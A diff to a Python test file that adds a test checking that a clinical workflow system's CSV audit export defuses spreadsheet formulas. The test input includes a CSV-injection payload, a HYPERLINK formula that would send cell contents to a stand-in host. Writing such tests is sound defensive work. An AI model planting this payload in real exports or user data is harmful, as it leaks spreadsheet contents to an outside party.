@@ -24,6 +24,7 @@ from carepath.engine.identity import Principal, Role
 from carepath.engine.persistence.chain import event_hash, read_head
 from carepath.engine.persistence.tables import Event
 from carepath.engine.usecases.audit import export_audit
+from tests.support import diagrams as d
 from tests.support.api import ApiClient
 from tests.test_task_assignment import camunda_task
 
@@ -354,3 +355,14 @@ def test_the_audit_log_used_event_carries_the_client_address_in_fhir(api: ApiCli
     _export(api, "csv")
     fhir = [json.loads(line) for line in _export(api, "fhir", type="audit_log_used").splitlines()]
     assert fhir and all(r["agent"][0]["network"] == {"address": "testclient", "type": "2"} for r in fhir)
+
+
+def test_csv_export_defuses_cells_a_spreadsheet_would_run(api: ApiClient) -> None:
+    lead = api.user("clinical_lead")
+    api.deploy(lead, ("fu.bpmn", d.linear_user_tasks("fu", "Call patient")))
+    started = api.start(lead, "fu", business_key='=HYPERLINK("http://x/?"&A1)', patient_id="+1-555").json()
+    body = api.get("/api/audit/export", api.user("auditor"),
+                   params={"format": "csv", "instance_id": started["id"], "type": "instance_started"}).text
+    [row] = list(csv.DictReader(io.StringIO(body)))
+    assert row["patient_id"] == "'+1-555"
+    assert json.loads(row["data"])["business_key"] == '=HYPERLINK("http://x/?"&A1)'  # JSON cells start with {
